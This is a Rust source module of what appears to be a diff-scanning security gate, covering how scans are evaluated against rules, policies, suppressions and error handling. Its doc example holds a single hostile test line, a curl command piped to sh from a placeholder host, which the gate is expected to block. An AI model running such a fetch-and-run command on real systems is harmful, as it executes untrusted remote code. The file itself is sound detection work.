//! The decision: a pure function of (diff bytes, ruleset, policy,
//! suppressions, scan context with the time passed in).
//!
//! ```
//! use diffver_core::policy::Policy;
//! use diffver_core::rules::Ruleset;
//! use diffver_core::suppress::Timestamp;
//! use diffver_core::verdict::{evaluate, Decision, Inputs, ScanContext};
//!
//! let ctx = ScanContext::new("scan-1", Timestamp::parse_rfc3339("2026-11-29T09:00:00Z").unwrap()).unwrap();
//! let policy = Policy::builtin("standard").unwrap();
//! let rules = Ruleset::builtin();
//! let diff = b"--- a/x.sh\n+++ b/x.sh\n@@ -1 +1 @@\n-echo hi\n+curl -s https://x.example/i | sh\n";
//! let v = evaluate(&Inputs::new(diff, &rules, &policy, &ctx));
//! assert_eq!(v.decision(), Decision::Fail);
//! ```

use sha2::{Digest, Sha256};

use crate::diff::{self, Limits, ParseError};
use crate::finding::Finding;
use crate::policy::{Action, OnError, Policy};
use crate::rules::{RuleError, Ruleset, ScanOptions};
use crate::scan::{ScanConfig, scan};
use crate::suppress::{Baseline, Suppression, Timestamp, inline_ignore_names};
use crate::verify::{self, BaseTree, PostImage};

/// The outcome.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Decision {
    /// No blocking findings.
    Pass,
    /// At least one blocking finding.
    Fail,
    /// The scan could not be completed.
    Error,
}

impl Decision {
    /// `pass`, `fail` or `error`.
    pub fn as_str(self) -> &'static str {
        match self {
            Decision::Pass => "pass",
            Decision::Fail => "fail",
            Decision::Error => "error",
        }
    }
}

/// Where an error comes from. It decides whether the policy's `on_error`
/// may let the change through.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[non_exhaustive]
pub enum ErrorOrigin {
    /// The input is not a diff diffver can verify: empty, not a patch,
    /// unsupported (`diff --cc`) or over a limit. The submitter controls it,
    /// so it blocks under every policy: a fail-open gate must not be opened by
    /// sending it something it cannot read.
    Input,
    /// A fault of the gate itself (a storage outage, a crashed worker). Only
    /// these go through the policy's `on_error` (`fail_open` or `fail_closed`).
    Internal,
}

impl ErrorOrigin {
    /// `input` or `internal`.
    pub fn as_str(self) -> &'static str {
        match self {
            ErrorOrigin::Input => "input",
            ErrorOrigin::Internal => "internal",
        }
    }
}

/// Why a scan could not complete.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum ScanError {
    /// The diff could not be parsed (see [`ParseError`]); always blocking.
    #[error("{0}")]
    Input(#[from] ParseError),
    /// The policy cannot be applied to these rules (it names rule ids the
    /// ruleset does not have: a typo would silently do nothing). The
    /// configuration is input too: it blocks under every policy.
    #[error("policy {policy} names unknown rule ids: {}", .rules.join(", "))]
    UnknownRules {
        /// The policy's id.
        policy: String,
        /// The ids it names that no rule has.
        rules: Vec<String>,
    },
    /// A fault outside the input, reported by the caller through
    /// [`internal_error`]; the policy's `on_error` decides.
    #[error("internal fault: {reason}")]
    Internal {
        /// What failed (for operators; never shown with input text unescaped).
        reason: String,
    },
}

impl ScanError {
    /// Whether the input or the gate is at fault.
    pub fn origin(&self) -> ErrorOrigin {
        match self {
            ScanError::Input(_) | ScanError::UnknownRules { .. } => ErrorOrigin::Input,
            ScanError::Internal { .. } => ErrorOrigin::Internal,
        }
    }
}

/// Identity and time of a scan, passed in (the core reads no clock).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ScanContext {
    scan_id: String,
    now: Timestamp,
}

/// The longest scan id.
pub const MAX_SCAN_ID_LEN: usize = 128;

/// A scan id outside the safe alphabet.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum ScanIdError {
    /// Longer than [`MAX_SCAN_ID_LEN`].
    #[error("a scan id is at most {MAX_SCAN_ID_LEN} bytes (found {len})")]
    TooLong {
        /// Its length.
        len: usize,
    },
    /// A character outside `A-Z a-z 0-9 . _ -`, or a first character that is
    /// not a letter or digit.
    #[error(
        "scan id {shown:?} has {what} at byte {at}: use letters, digits, '.', '_' and '-', starting with a letter or digit"
    )]
    Alphabet {
        /// The id, escaped and shortened.
        shown: String,
        /// Byte offset of the first bad character.
        at: usize,
        /// What is wrong there.
        what: &'static str,
    },
}

/// Checks a scan id: 1 to 128 bytes of `A-Z a-z 0-9 . _ -`, starting with a
/// letter or digit. It names the diff (`diffs/{scan_id}.patch`) inside signed
/// bytes and becomes part of object keys, so nothing else is allowed: no
/// separators, no `..`, no whitespace, nothing a shell or URL would interpret.
///
/// # Errors
///
/// [`ScanIdError`] saying what is wrong and where.
pub fn check_scan_id(id: &str) -> Result<(), ScanIdError> {
    if id.len() > MAX_SCAN_ID_LEN {
        return Err(ScanIdError::TooLong { len: id.len() });
    }
    let bad = |at: usize, what: &'static str| ScanIdError::Alphabet {
        shown: crate::text::escape_for_display(&id.as_bytes()[..id.len().min(64)]),
        at,
        what,
    };
    match id.bytes().next() {
        None => return Err(bad(0, "nothing")),
        Some(b) if !b.is_ascii_alphanumeric() => {
            return Err(bad(0, "a first character that is not a letter or digit"));
        }
        Some(_) => {}
    }
    if let Some(at) = id
        .bytes()
        .position(|b| !(b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-')))
    {
        return Err(bad(at, "a character outside the alphabet"));
    }
    Ok(())
}

impl ScanContext {
    /// A context. An empty `scan_id` means "derive it from the diff":
    /// `sha256-` and the first 16 hex digits of the diff's SHA-256.
    ///
    /// # Errors
    ///
    /// [`ScanIdError`] for an id outside the alphabet of [`check_scan_id`].
    pub fn new(scan_id: impl Into<String>, now: Timestamp) -> Result<ScanContext, ScanIdError> {
        let scan_id = scan_id.into();
        if !scan_id.is_empty() {
            check_scan_id(&scan_id)?;
        }
        Ok(ScanContext { scan_id, now })
    }

    /// The scan's id (names the diff and the artifact: `diffs/{scan_id}.patch`);
    /// empty until a verdict derives it.
    pub fn scan_id(&self) -> &str {
        &self.scan_id
    }

    /// The scan time: exceptions expire against it, artifacts record it.
    pub fn now(&self) -> Timestamp {
        self.now
    }
}

/// Everything a decision depends on.
#[derive(Clone, Copy)]
pub struct Inputs<'a> {
    /// The raw diff.
    pub diff: &'a [u8],
    /// The compiled rules (see [`ruleset_for`]).
    pub rules: &'a Ruleset,
    /// The policy.
    pub policy: &'a Policy,
    /// Accepted fingerprints, if any.
    pub baseline: Option<&'a Baseline>,
    /// Scan id and time.
    pub ctx: &'a ScanContext,
    /// Base tree for apply verification, if any.
    pub base: Option<&'a dyn BaseTree>,
    /// Key for secret fingerprints, if any.
    pub fingerprint_key: Option<&'a [u8]>,
    /// Threads the rules may use (0 or 1: one). The result does not depend on it.
    pub threads: usize,
    /// Whether an empty diff (zero bytes) is a valid, empty change (`pass`)
    /// instead of an input error. Default `false`: an empty diff is more often
    /// a broken pipeline than a change (`diffver scan --allow-empty`).
    pub allow_empty: bool,
}

impl<'a> Inputs<'a> {
    /// Inputs with no baseline, base tree or fingerprint key.
    pub fn new(
        diff: &'a [u8],
        rules: &'a Ruleset,
        policy: &'a Policy,
        ctx: &'a ScanContext,
    ) -> Inputs<'a> {
        Inputs {
            diff,
            rules,
            policy,
            baseline: None,
            ctx,
            base: None,
            fingerprint_key: None,
            threads: 1,
            allow_empty: false,
        }
    }
}

/// A finding with what the policy and suppressions made of it.
#[derive(Debug, Clone)]
pub struct Evaluated {
    /// The finding.
    pub finding: Finding,
    /// The policy's action.
    pub action: Action,
    /// What suppressed it, if anything.
    pub suppression: Option<Suppression>,
}

impl Evaluated {
    /// Whether it blocks: the policy blocks it and nothing suppressed it.
    pub fn is_blocking(&self) -> bool {
        self.action == Action::Block && self.suppression.is_none()
    }
}

/// Facts about the scanned diff.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DiffFacts {
    /// SHA-256 of the diff bytes (hex).
    pub sha256: String,
    /// Size in bytes.
    pub bytes: usize,
    /// File patches.
    pub files: usize,
    /// Added lines.
    pub added: usize,
    /// Removed lines.
    pub removed: usize,
}

/// The result of a scan under a policy.
#[derive(Debug, Clone)]
pub struct Verdict {
    pub(crate) decision: Decision,
    pub(crate) blocks: bool,
    pub(crate) findings: Vec<Evaluated>,
    pub(crate) expired_exceptions: Vec<String>,
    pub(crate) error: Option<String>,
    pub(crate) scan_error: Option<ScanError>,
    pub(crate) diff: DiffFacts,
    pub(crate) post_images: Vec<PostImage>,
    pub(crate) policy_id: String,
    pub(crate) policy_version: String,
    pub(crate) policy_hash: String,
    pub(crate) ruleset_hash: String,
    pub(crate) rules: usize,
    pub(crate) ctx: ScanContext,
}

impl Verdict {
    /// Pass, fail or error.
    pub fn decision(&self) -> Decision {
        self.decision
    }

    /// Whether the change should be stopped: `fail`, or `error` under a
    /// fail-closed policy.
    pub fn blocks(&self) -> bool {
        self.blocks
    }

    /// Every finding, in order, with its action and suppression.
    pub fn findings(&self) -> &[Evaluated] {
        &self.findings
    }

    /// The blocking findings.
    pub fn blocking(&self) -> impl Iterator<Item = &Evaluated> {
        self.findings.iter().filter(|e| e.is_blocking())
    }

    /// The suppressed findings.
    pub fn suppressed(&self) -> impl Iterator<Item = &Evaluated> {
        self.findings.iter().filter(|e| e.suppression.is_some())
    }

    /// Exceptions that matched a finding but had expired (so did not apply).
    pub fn expired_exceptions(&self) -> &[String] {
        &self.expired_exceptions
    }

    /// Why the scan could not complete, for `error`.
    pub fn error(&self) -> Option<&str> {
        self.error.as_deref()
    }

    /// The typed error, for `error`: an [`ErrorOrigin::Input`] error blocks
    /// under every policy; findings gathered before it are still listed.
    pub fn scan_error(&self) -> Option<&ScanError> {
        self.scan_error.as_ref()
    }

    /// Facts about the diff.
    pub fn diff(&self) -> &DiffFacts {
        &self.diff
    }

    /// Verified post-images.
    pub fn post_images(&self) -> &[PostImage] {
        &self.post_images
    }

    /// The policy's id, version and canonical hash.
    pub fn policy(&self) -> (&str, &str, &str) {
        (&self.policy_id, &self.policy_version, &self.policy_hash)
    }

    /// SHA-256 of the rule sources and the number of rules.
    pub fn ruleset(&self) -> (&str, usize) {
        (&self.ruleset_hash, self.rules)
    }

    /// The scan context.
    pub fn context(&self) -> &ScanContext {
        &self.ctx
    }
}

/// The built-in rules plus any the policy carries.
///
/// # Errors
///
/// [`RuleError`] if the policy's rules do not load.
pub fn ruleset_for(policy: &Policy) -> Result<Ruleset, RuleError> {
    ruleset_with(policy, &[])
}

/// The one way every surface (SDK, CLI, Python, service) builds the rules of a
/// scan: the built-in packs, then the policy's `rules_toml`, then `extra` rule
/// files in the order given, each as (name for error messages, TOML source).
/// The ruleset's hash covers the sources' contents only, so the same rules
/// give the same hash — and the same signed bytes — whatever the files were
/// called or however their paths were typed.
///
/// # Errors
///
/// [`RuleError`] naming the source and rule at fault.
pub fn ruleset_with(policy: &Policy, extra: &[(&str, &str)]) -> Result<Ruleset, RuleError> {
    let mut b = Ruleset::builder().add_builtin()?;
    if let Some(src) = policy.rules_toml() {
        b = b.add_toml(src, &format!("policy {} rules_toml", policy.id()))?;
    }
    for (name, src) in extra {
        b = b.add_toml(src, name)?;
    }
    b.build()
}

/// Like [`ruleset_with`], shared: when the policy carries no rules and there
/// are no extra files, the process-wide built-in ruleset
/// ([`Ruleset::builtin_shared`]) is returned instead of compiling the packs
/// again. The rules, and so the verdict and its hash, are the same either way.
///
/// # Errors
///
/// [`RuleError`] naming the source and rule at fault.
pub fn ruleset_shared(
    policy: &Policy,
    extra: &[(&str, &str)],
) -> Result<std::sync::Arc<Ruleset>, RuleError> {
    if policy.rules_toml().is_none() && extra.is_empty() {
        return Ok(Ruleset::builtin_shared());
    }
    ruleset_with(policy, extra).map(std::sync::Arc::new)
}

/// The line of `input` that contains offset `at`.
fn line_at(input: &[u8], at: usize) -> &[u8] {
    let at = at.min(input.len());
    let start = memchr::memrchr(b'\n', &input[..at]).map_or(0, |i| i + 1);
    let end = memchr::memchr(b'\n', &input[at..]).map_or(input.len(), |i| at + i);
    &input[start..end]
}

/// A verdict with no findings yet: the facts every outcome records.
fn blank(inputs: &Inputs<'_>) -> Verdict {
    blank_with(inputs, crate::hex(&Sha256::digest(inputs.diff)))
}

/// [`blank`] with the diff's SHA-256 (hex) computed by the caller.
fn blank_with(inputs: &Inputs<'_>, digest_hex: String) -> Verdict {
    let policy = inputs.policy;
    let facts = DiffFacts {
        sha256: digest_hex.clone(),
        bytes: inputs.diff.len(),
        files: 0,
        added: 0,
        removed: 0,
    };
    Verdict {
        decision: Decision::Pass,
        blocks: false,
        findings: Vec::new(),
        expired_exceptions: Vec::new(),
        error: None,
        scan_error: None,
        diff: facts,
        post_images: Vec::new(),
        policy_id: policy.id().to_owned(),
        policy_version: policy.version().to_owned(),
        policy_hash: policy.hash().to_owned(),
        ruleset_hash: inputs.rules.hash().to_owned(),
        rules: inputs.rules.len(),
        ctx: ScanContext {
            // An empty scan id defaults to `sha256-<first 16 hex digits of
            // the diff's SHA-256>`, from the digest computed here anyway.
            scan_id: if inputs.ctx.scan_id.is_empty() {
                format!("sha256-{}", &digest_hex[..16])
            } else {
                inputs.ctx.scan_id.clone()
            },
            now: inputs.ctx.now,
        },
    }
}

/// Records `e` as the verdict's error. An input error blocks under every
/// policy; an internal fault blocks unless the policy is fail-open.
fn set_error(verdict: &mut Verdict, policy: &Policy, e: ScanError) {
    verdict.decision = Decision::Error;
    verdict.blocks = match e.origin() {
        ErrorOrigin::Input => true,
        ErrorOrigin::Internal => policy.on_error() == OnError::FailClosed,
    };
    verdict.error = Some(e.to_string());
    verdict.scan_error = Some(e);
}

/// The verdict for a fault of the gate itself, not of the input (a storage
/// outage, a worker that died): decision `error`, blocking unless the
/// policy's `on_error` is `fail_open`. Input errors never go this way;
/// [`evaluate`] reports them, blocking under every policy.
pub fn internal_error(inputs: &Inputs<'_>, reason: impl Into<String>) -> Verdict {
    let mut verdict = blank(inputs);
    set_error(
        &mut verdict,
        inputs.policy,
        ScanError::Internal {
            reason: reason.into(),
        },
    );
    verdict
}

/// [`internal_error`] for a diff the gate can no longer read (its stored bytes are
/// unreachable or gone), known by the SHA-256 (hex) and size recorded when it was
/// accepted: the verdict names that diff, so checking the artifact against the
/// original diff succeeds. A digest that is not 64 hex digits is ignored (the verdict
/// then names the empty input it was evaluated on, as [`internal_error`] does).
pub fn internal_error_for(
    inputs: &Inputs<'_>,
    diff_sha256: &str,
    diff_bytes: usize,
    reason: impl Into<String>,
) -> Verdict {
    let mut verdict = internal_error(inputs, reason);
    if diff_sha256.len() == 64 && diff_sha256.bytes().all(|b| b.is_ascii_hexdigit()) {
        verdict.diff.sha256 = diff_sha256.to_ascii_lowercase();
        verdict.diff.bytes = diff_bytes;
    }
    verdict
}

/// Scans, applies the policy and suppressions, and decides.
///
/// Input that cannot be parsed (empty unless [`Inputs::allow_empty`], not a
/// patch, `diff --cc`, over a limit) gives `error` under every policy, with
/// the findings of everything parsed before the error.
pub fn evaluate(inputs: &Inputs<'_>) -> Verdict {
    let policy = inputs.policy;
    let unknown = policy.unknown_rule_ids(inputs.rules);
    if !unknown.is_empty() {
        let mut verdict = blank(inputs);
        set_error(
            &mut verdict,
            policy,
            ScanError::UnknownRules {
                policy: policy.id().to_owned(),
                rules: unknown,
            },
        );
        return verdict;
    }
    let mut limits = Limits::default();
    if let Some(n) = policy.max_diff_bytes() {
        limits = limits.with_max_input_bytes(n);
    }
    if let Some(n) = policy.max_files() {
        limits = limits.with_max_files(n);
    }
    limits = limits.with_allow_empty(inputs.allow_empty);
    // On an error the partial diff is still scanned: its findings are kept.
    // With more than one thread the digest is computed while parsing.
    let ((parsed, parse_error), digest) = if inputs.threads > 1 {
        std::thread::scope(|s| {
            let bytes = inputs.diff;
            let digest = s.spawn(move || Sha256::digest(bytes));
            let parsed = diff::parse_partial(inputs.diff, &limits);
            match digest.join() {
                Ok(d) => (parsed, d),
                Err(panic) => std::panic::resume_unwind(panic),
            }
        })
    } else {
        (
            diff::parse_partial(inputs.diff, &limits),
            Sha256::digest(inputs.diff),
        )
    };
    let mut verdict = blank_with(inputs, crate::hex(&digest));
    verdict.diff.files = parsed.files().len();
    let (a, r) = parsed.files().iter().fold((0, 0), |(a, r), f| {
        let (fa, fr) = f.line_counts();
        (a + fa, r + fr)
    });
    verdict.diff.added = a;
    verdict.diff.removed = r;
    let mut config = ScanConfig::default();
    if let Some(base) = inputs.base {
        config.verify = verify::Options::default().with_base(base);
    }
    let mut rules_opts = ScanOptions::default().with_threads(inputs.threads);
    if let Some(k) = inputs.fingerprint_key {
        rules_opts = rules_opts.with_fingerprint_key(k.to_vec());
    }
    config.rules = rules_opts;
    let report = scan(&parsed, inputs.rules, &config);
    verdict.post_images = report.post_images().to_vec();
    let mut expired = std::collections::BTreeSet::new();
    for f in report.findings() {
        let action = policy.action_for(f);
        let mut suppression = None;
        for e in policy.exceptions() {
            if !e.matches(f) {
                continue;
            }
            if e.expired(inputs.ctx.now) {
                expired.insert(format!(
                    "{} (expired {}; {})",
                    e.describe(),
                    e.expires_at()
                        .map(Timestamp::to_rfc3339)
                        .unwrap_or_default(),
                    e.reason()
                ));
                continue;
            }
            suppression = Some(Suppression::Exception {
                matches: e.describe(),
                reason: e.reason().to_owned(),
                author: e.author().to_owned(),
            });
            break;
        }
        // A secret fingerprinted without a key (its length only) is never
        // accepted by a baseline: it would accept any other secret of that
        // length at that path (issue 11).
        if suppression.is_none()
            && !f.fingerprint_ignores_secret_value()
            && inputs.baseline.is_some_and(|b| b.contains(f.fingerprint()))
        {
            suppression = Some(Suppression::Baseline);
        }
        if suppression.is_none()
            && policy.inline_ignores().iter().any(|r| r == f.rule_id())
            && inline_ignore_names(line_at(inputs.diff, f.location().span.start), f.rule_id())
        {
            suppression = Some(Suppression::InlineComment);
        }
        verdict.findings.push(Evaluated {
            finding: f.clone(),
            action,
            suppression,
        });
    }
    verdict.expired_exceptions = expired.into_iter().collect();
    if let Some(e) = parse_error {
        set_error(&mut verdict, policy, ScanError::Input(e));
    } else if verdict.findings.iter().any(Evaluated::is_blocking) {
        verdict.decision = Decision::Fail;
        verdict.blocks = true;
    }
    verdict
}
